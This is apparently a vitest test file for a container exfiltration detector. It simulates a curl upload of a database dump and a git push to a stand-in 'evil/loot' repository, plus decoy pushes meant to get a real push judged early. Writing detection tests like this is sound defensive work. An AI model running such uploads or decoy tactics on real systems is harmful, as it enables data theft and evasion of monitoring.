/**
 * Decoy pushes: quick pushes by other tools right after a real one fill the container's pending list
 * (caps.maxPendingPushesPerContainer, 4) and have the real push judged early, before its own slow reads.
 * Its alert still goes out at once; it is watched until its time and judged again then: a graver severity
 * raises a second alert, the same or a lower one nothing.
 */
import { describe, expect, it } from 'vitest';
import type { Alert } from '../../../src/model/alert.js';
import type { SensorSource } from '../../../src/model/normalized-event.js';
import { brief, type Ctr, counterValue, MiB, makeCorrelator, type Proc, run, Scenario } from './builder.js';

const UPLOAD_URL = 'https://uploads.github.com/repos/evil/loot/releases/1/assets?name=db.dump';
const CURL_ARGS = `--limit-rate 3M -sS -T - -H "Content-Type: application/octet-stream" ${UPLOAD_URL}`;

const DECOYS: Array<[string, string, string, string]> = [
  // Not a commit status: a short inline report is no push (src/rules/reporting-calls.ts).
  ['/usr/bin/gh', 'api -X POST repos/acme/site/issues -f title=flaky', 'gh', 'api.github.com'],
  ['/usr/local/bin/crane', 'copy quay.io/acme/base:1 quay.io/acme/base:1-ci', 'crane', 'quay.io'],
  ['/usr/local/bin/oras', 'push ghcr.io/acme/notes:1 notes.txt', 'oras', 'ghcr.io'],
  ['/usr/local/bin/helm', 'push chart-0.1.0.tgz oci://registry-1.docker.io/acme', 'helm', 'registry-1.docker.io'],
];
/**
 * More, for the tests that need them: each a tool of its own (a push-shaped process of the same tool within
 * pushSettleMs joins the pending push of that tool) and a destination of its own (not a suppressed repeat).
 */
const MORE_DECOYS: Array<[string, string, string, string]> = [
  ['/usr/bin/skopeo', 'copy docker://quay.io/acme/a:1 docker://d4.azurecr.io/acme/a:1', 'skopeo', 'd4.azurecr.io'],
  ['/usr/bin/glab', 'release upload v1.2.0 notes.txt', 'glab', 'gitlab.com'],
  ['/usr/bin/podman', 'push d6.azurecr.io/acme/a:1', 'podman', 'd6.azurecr.io'],
  ['/usr/local/bin/nerdctl', 'push d7.azurecr.io/acme/a:1', 'nerdctl', 'd7.azurecr.io'],
  ['/usr/bin/buildah', 'push d8.azurecr.io/acme/a:1', 'buildah', 'd8.azurecr.io'],
  ['/usr/bin/wget', '--post-data=x=1 https://api.bitbucket.org/2.0/snippets', 'wget', 'api.bitbucket.org'],
  ['/usr/bin/git', 'push https://codeberg.org/acme/site.git main', 'git', 'codeberg.org'],
  ['/usr/local/bin/twine', 'upload dist/acme-1.0.tar.gz', 'twine', 'upload.pypi.org'],
];
const decoy = (i: number) => (DECOYS[i] ?? MORE_DECOYS[i - DECOYS.length])!;

const CURL = { tool: 'curl', destination: 'uploads.github.com' };
const LOW = { rule: 'push-without-reads', severity: 'low', ...CURL };
const MEDIUM = { rule: 'push-after-moderate-reads', severity: 'medium', ...CURL };
const HIGH = { rule: 'bulk-read-then-push', severity: 'high', ...CURL };

/** Quick pushes by other tools (decoys `from` to `to` - 1), 170 ms apart, each by a process of its own. */
function decoys(s: Scenario, c: Ctr, sh: Proc, to = 4, from = 0): void {
  for (let i = from; i < to; i++) {
    const [binary, args] = decoy(i);
    s.wait(150);
    const p = s.exec(c, binary, args, { parent: sh });
    s.wait(20).exit(p);
  }
}

/** The destinations of decoys `from` to `to` - 1, in the order they are judged. */
const decoyDestinations = (to = 4, from = 0) => Array.from({ length: to - from }, (_, k) => decoy(from + k)[3]);

/** `curl -T -` whose stdin is a dump: curl itself reads it, `bytes` over `overMs` from `startMs` after the push. */
function slowUpload(s: Scenario, c: Ctr, sh: Proc, pushAt: number, bytes: number, startMs: number, overMs: number) {
  const curl = s.exec(c, '/usr/bin/curl', CURL_ARGS, { parent: sh, at: pushAt });
  const chunks = Math.max(1, Math.round(bytes / (2 * MiB)));
  for (let i = 0; i < chunks; i++) {
    const at = pushAt + startMs + Math.round((i * overMs) / chunks);
    s.read(curl, '/srv/db/orders.dump', bytes / chunks, { at });
  }
  return curl;
}

function sorted(s: Scenario) {
  return s.events.sort((a, b) => a.timeMs - b.timeMs);
}

/** The alerts of one tool's pushes. */
const of = (alerts: readonly Alert[], tool: string) => brief(alerts).filter((a) => a.tool === tool);
/** The decoys' alerts (their own windows take in the real push's reads up to their settle time). */
const others = (alerts: readonly Alert[], tool: string) => brief(alerts).filter((a) => a.tool !== tool);

describe('decoy pushes', () => {
  for (const source of ['tetragon', 'falco'] as const satisfies readonly SensorSource[]) {
    it(`${source}: a push judged early by four decoys, then reading 100 MiB itself, raises high besides its first alert`, () => {
      const s = new Scenario({ source });
      const c = s.container({ name: 'orders', namespace: 'shop', pod: 'orders-6f7c' });
      const sh = s.init(c);
      s.read(sh, '/app/config.yaml', 2048).wait(5_000);
      const pushAt = s.now;
      // The reads start 3 s after the push (a slow start: TLS, auth), 100 MiB over 30 s.
      slowUpload(s, c, sh, pushAt, 100 * MiB, 3_000, 30_000);
      decoys(s, c, sh);
      const { alerts } = run(sorted(s));
      expect(brief(alerts)).toEqual([
        // Judged when the fourth decoy came, before its reads: all that was sent before.
        LOW,
        // Judged again at its time (push + 40 s): its own 100 MiB.
        HIGH,
        // The decoys' own: the curl's first reads fall within their settle time.
        ...DECOYS.map(([, , tool, destination]) => ({
          rule: 'push-after-moderate-reads',
          severity: 'medium',
          tool,
          destination,
        })),
      ]);
      const [first, second] = alerts;
      expect(second!.reads.bytes).toBe(100 * MiB + 2048);
      expect(second!.id).not.toBe(first!.id);
      expect(second!.summary).toContain('graver than its early judgement, push-without-reads (low)');
      expect(first!.summary).not.toContain('graver');
    });
  }

  it('a bulk-read-then-push that turns critical gets a new id (the broker would drop the same one as a re-send)', () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.readMany(sh, '/srv/exports', 70, MiB, 50).wait(5_000);
    const pushAt = s.now;
    slowUpload(s, c, sh, pushAt, 200 * MiB, 2_000, 30_000);
    decoys(s, c, sh);
    const { alerts } = run(sorted(s));
    expect(of(alerts, 'curl')).toEqual([HIGH, { ...HIGH, severity: 'critical' }]);
    expect(alerts[1]!.id).not.toBe(alerts[0]!.id);
  });

  it('a push judged early whose own later reads leave its severity as it was raises nothing more; its helpers join it', async () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.readMany(sh, '/srv/exports', 70, MiB, 50).wait(5_000);
    const url = 'https://github.com/evil/loot.git';
    const git = s.exec(c, '/usr/bin/git', `push ${url} main`, { parent: sh });
    decoys(s, c, sh);
    // git's helper and pack-objects start after the early judgement and read 20 MiB: still high.
    s.wait(2_000);
    const helper = s.exec(c, '/usr/lib/git-core/git-remote-https', `${url} ${url}`, { parent: git });
    const pack = s.exec(c, '/usr/lib/git-core/git', 'pack-objects --all-progress-implied --revs --stdout', {
      parent: git,
    });
    s.readMany(pack, '/repo/.git/objects', 10, 2 * MiB, 1_500);
    s.connect(helper, '140.82.112.3', 443).send(helper, '140.82.112.3', 443, 20 * MiB);
    const { alerts, metrics } = run(sorted(s));
    expect(of(alerts, 'git')).toEqual([
      { rule: 'bulk-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
    ]);
    expect(others(alerts, 'git').map((a) => a.destination)).toEqual(decoyDestinations());
    // The helper joined the push it serves, not taken for a second push (judged later, suppressed as a repeat).
    expect(await counterValue(metrics, 'exfilwatch_alerts_suppressed_total')).toBe(0);
  });

  it('the same severity under another rule raises nothing more (renamed-binary-push, then moderate reads)', () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    const up = s.exec(c, '/tmp/.x/curl', CURL_ARGS, { parent: sh });
    const pushAt = s.now;
    decoys(s, c, sh);
    for (let i = 0; i < 10; i++) s.read(up, `/srv/db/part-${i}`, MiB, { at: pushAt + 3_000 + i * 1_000 });
    const { alerts } = run(sorted(s));
    expect(of(alerts, 'curl')).toEqual([{ rule: 'renamed-binary-push', severity: 'medium', ...CURL }]);
  });

  /** An app serving beside a 1 KiB upload that the decoys after it have judged early. */
  function appBesideDecoyedPush() {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    const app = s.exec(c, '/usr/local/bin/app', '--serve', { parent: sh });
    const pushAt = s.wait(1_000).now;
    slowUpload(s, c, sh, pushAt, 1024, 100, 0);
    decoys(s, c, sh);
    return { s, app, pushAt };
  }

  it("other processes' reads after push + pushSettleMs never raise a push judged early", () => {
    const { s, app, pushAt } = appBesideDecoyedPush();
    // 100 MiB by the app from 11 s after the push on: not the push's.
    for (let i = 0; i < 50; i++) s.read(app, `/srv/cache/f${i}`, 2 * MiB, { at: pushAt + 11_000 + i * 500 });
    expect(of(run(sorted(s)).alerts, 'curl')).toEqual([LOW]);
  });

  it("other processes' reads up to push + pushSettleMs count when it is judged again, later ones do not", () => {
    const { s, app, pushAt } = appBesideDecoyedPush();
    // 20 MiB by the app within the settle time (after the early judgement), 100 MiB after it.
    for (let i = 0; i < 10; i++) s.read(app, `/srv/in/f${i}`, 2 * MiB, { at: pushAt + 2_000 + i * 700 });
    for (let i = 0; i < 50; i++) s.read(app, `/srv/out/f${i}`, 2 * MiB, { at: pushAt + 11_000 + i * 500 });
    const { alerts } = run(sorted(s));
    // What it would have been without the decoys: the 20 MiB inside the settle time, medium, not high.
    expect(of(alerts, 'curl')).toEqual([LOW, MEDIUM]);
    expect(alerts[1]!.reads.bytes).toBe(20 * MiB + 1024);
  });

  it('judged again once: at its time, not again at flush; or at flush when the input ends first', () => {
    const build = () => {
      const s = new Scenario();
      const c = s.container();
      const sh = s.init(c);
      const pushAt = s.now;
      slowUpload(s, c, sh, pushAt, 80 * MiB, 2_000, 20_000);
      decoys(s, c, sh);
      return { s, pushAt };
    };
    // The stream goes on past its time: judged again then, and flush() has nothing left of it.
    const { s, pushAt } = build();
    const { correlator } = makeCorrelator();
    // Past its time (push + 40 s), before the first decoy's.
    const other = s.container();
    s.read(s.init(other), '/app/x', 10, { at: pushAt + 40_050 });
    expect(brief(correlator.ingest(sorted(s)))).toEqual([LOW, HIGH]);
    expect(of(correlator.flush(), 'curl')).toEqual([]);
    expect(correlator.flush()).toEqual([]);
    // The input ends before its time (a scan's last file): flush judges it again.
    const ended = build();
    const { correlator: scan } = makeCorrelator();
    expect(brief(scan.ingest(sorted(ended.s)))).toEqual([LOW]);
    expect(of(scan.flush(), 'curl')).toEqual([HIGH]);
  });

  it('as many pushes judged early are watched as may wait; past that the one nearest its time is judged for good, counted', async () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    const pushAt = s.now;
    // Its reads come 2 s after the push; twelve decoys from 3 s on.
    slowUpload(s, c, sh, pushAt, 80 * MiB, 2_000, 500);
    s.wait(3_000);
    decoys(s, c, sh, 12);
    const { alerts, metrics } = run(sorted(s));
    // Judged early at the fourth decoy (its 80 MiB in by then); let go at the eighth, no second alert.
    expect(of(alerts, 'curl')).toEqual([HIGH]);
    expect(others(alerts, 'curl').map((a) => a.destination)).toEqual(decoyDestinations(12));
    // The curl and eight decoys judged early, four of them watched at most: five let go, the curl first.
    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'early_push' })).toBe(5);
  });

  it('a watched push let go to watch a newer one is judged for good with the reads in so far', async () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    const pushAt = s.now;
    slowUpload(s, c, sh, pushAt, 80 * MiB, 3_000, 2_000);
    decoys(s, c, sh, 4);
    // Four more after its reads: the decoys judged early fill the watch, and the curl (nearest its time) goes.
    s.wait(6_000);
    decoys(s, c, sh, 8, 4);
    const { alerts, metrics } = run(sorted(s));
    expect(of(alerts, 'curl')).toEqual([LOW, HIGH]);
    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'early_push' })).toBe(1);
  });

  it('a container evicted with a watched push has it judged for good on the way out', () => {
    const { correlator } = makeCorrelator({ config: { caps: { maxContainers: 1 } } });
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    const pushAt = s.now;
    slowUpload(s, c, sh, pushAt, 80 * MiB, 1_000, 2_000);
    decoys(s, c, sh);
    s.wait(5_000);
    s.read(s.init(s.container()), '/app/x', 10);
    const alerts = correlator.ingest(sorted(s));
    expect(of(alerts, 'curl')).toEqual([LOW, HIGH]);
    expect(others(alerts, 'curl').map((a) => a.destination)).toEqual(decoyDestinations());
    expect(correlator.flush()).toEqual([]);
  });
});
